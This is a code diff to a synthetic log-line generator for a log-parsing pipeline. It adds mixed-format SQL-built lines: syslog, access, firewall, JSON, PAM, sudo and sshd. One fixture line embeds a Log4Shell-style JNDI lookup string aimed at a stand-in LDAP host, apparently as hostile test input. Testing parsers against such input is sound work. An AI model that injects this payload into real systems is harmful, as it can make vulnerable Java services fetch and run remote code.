@@ -48,11 +48,33 @@ SELECT event_id, source, CASE
 FROM log_events
 """
 
+#: Lines of the other kinds, and some that do not become events, by event_id % 12.
+_MIXED = """
+SELECT event_id, CASE event_id % 12
+    WHEN 0 THEN concat('<34>1 ', {iso}, 'Z ', host, ' app 7 ID47 - job ', CAST(event_id AS VARCHAR(20)), ' finished')
+    WHEN 1 THEN concat(source_ip, ' - ', username, ' [', {access}, ' +0000] "POST /n HTTP/1.1" ', CASE WHEN event_id % 5 = 0 THEN '999' ELSE '404' END, ' ',
+        CAST(event_id AS VARCHAR(20)), ' "-" "agent/2.0" "-" rt=0.010 uct="0.001" urt="0.009"')
+    WHEN 2 THEN concat('date=2024-03-04 time=06:07:08 devname=fw-9 action=deny srcip=', source_ip, ' dstip=203.0.113.7 srcport=', CAST(source_port AS VARCHAR(20)),
+        ' dstport=22 proto=6 session=', CAST(event_id AS VARCHAR(20)))
+    WHEN 3 THEN concat('{{"ts":"', {iso}, 'Z","event":"login_failed","actor":{{"user":"', username, '","from":{{"net":{{"ip":"', source_ip, '"}}}}}},"n":', CAST(event_id AS VARCHAR(20)), '}}')
+    WHEN 4 THEN concat({bsd}, ' ', host, ' su: pam_unix(su:auth): authentication failure; logname= uid=0 tty=pts/', CAST(event_id AS VARCHAR(20)), ' ruser= rhost=', source_ip, '  user=', username)
+    WHEN 5 THEN concat({bsd}, ' ', host, ' sudo: ', username, ' : TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/bin/ls ', CAST(event_id AS VARCHAR(20)))
+    WHEN 6 THEN concat({bsd}, ' ', host, ' sshd[', CAST(event_id AS VARCHAR(20)), ']: Invalid user ', username, ' from ', source_ip, ' port ', CAST(source_port AS VARCHAR(20)))
+    WHEN 7 THEN concat({bsd}, ' ', host, ' sshd[', CAST(event_id AS VARCHAR(20)), ']: pam_unix(sshd:session): session opened for user ', username, ' by (uid=0)')
+    WHEN 8 THEN '  '
+    WHEN 9 THEN concat('user=x agent=${{jndi:ldap://203.0.113.', CAST(event_id AS VARCHAR(20)), '/a}}')
+    WHEN 10 THEN 'the same line again and again'
+    ELSE concat('plain words about number ', CAST(event_id AS VARCHAR(20))) END AS content
+FROM log_events
+"""
+
 LOG_EVENTS_SQL = _BASE
-LOG_LINES_SQL = _LINES.format(bsd="strftime(ts, '%b %d %H:%M:%S')", access="strftime(ts, '%d/%b/%Y:%H:%M:%S')", iso="strftime(ts, '%Y-%m-%dT%H:%M:%S')")
+_TIMES = {"bsd": "strftime(ts, '%b %d %H:%M:%S')", "access": "strftime(ts, '%d/%b/%Y:%H:%M:%S')", "iso": "strftime(ts, '%Y-%m-%dT%H:%M:%S')"}
+LOG_LINES_SQL = _LINES.format(**_TIMES)
 #: Opens a WITH clause that defines both views for DuckDB.
 WITH_EVENTS = f"WITH log_events AS ({LOG_EVENTS_SQL})"
 WITH_LINES = f"{WITH_EVENTS}, log_lines AS ({LOG_LINES_SQL})"
+WITH_MIXED = f"{WITH_EVENTS}, mixed_lines AS ({_MIXED.format(**_TIMES)})"
 
 
 def log_events(spark: SparkSession, sf_dir: str) -> DataFrame:
@@ -62,10 +84,15 @@ def log_events(spark: SparkSession, sf_dir: str) -> DataFrame:
 
 
 def log_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """Raw lines: event_id, source, content. Lines of a few small files are dealt out, as one file would keep all work on one core."""
-    # the doubled braces of the JSON line are taken apart by spark.sql itself
+    """Raw lines: event_id, source, content."""
+    return _written(spark, sf_dir, _LINES)
+
+
+def _written(spark: SparkSession, sf_dir: str, lines: str) -> DataFrame:
+    """A view of lines. Those of a few small files are dealt out, as one file would keep all work on one core."""
+    # the doubled braces of JSON lines are taken apart by spark.sql itself
     times = {"{bsd}": "date_format(ts, 'MMM dd HH:mm:ss')", "{access}": "date_format(ts, 'dd/MMM/yyyy:HH:mm:ss')", "{iso}": "date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss\")"}
-    text = _LINES.replace("FROM log_events", "FROM {log_events}")
+    text = lines.replace("FROM log_events", "FROM {log_events}")
     for name, expression in times.items():
         text = text.replace(name, expression)
     events, n = log_events(spark, sf_dir), spark.sparkContext.defaultParallelism
@@ -74,8 +101,9 @@ def log_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
     return spark.sql(text, log_events=events)
 
 
-def raw_logs(spark: SparkSession, sf_dir: str) -> DataFrame:
-    """log_lines as the pipeline's input: job_id, source_name, line_number, content, received_at."""
-    return log_lines(spark, sf_dir).select(
+def raw_logs(spark: SparkSession, sf_dir: str, mixed: bool = False) -> DataFrame:
+    """log_lines, or the lines of other kinds, as the pipeline's input: job_id, source_name, line_number, content, received_at."""
+    lines = _written(spark, sf_dir, _MIXED).withColumn("source", F.lit("mixed")) if mixed else log_lines(spark, sf_dir)
+    return lines.select(
         F.lit("job-1").alias("job_id"), F.col("source").alias("source_name"), F.col("event_id").alias("line_number"), "content", F.lit(REFERENCE).cast("timestamp").alias("received_at")
     )
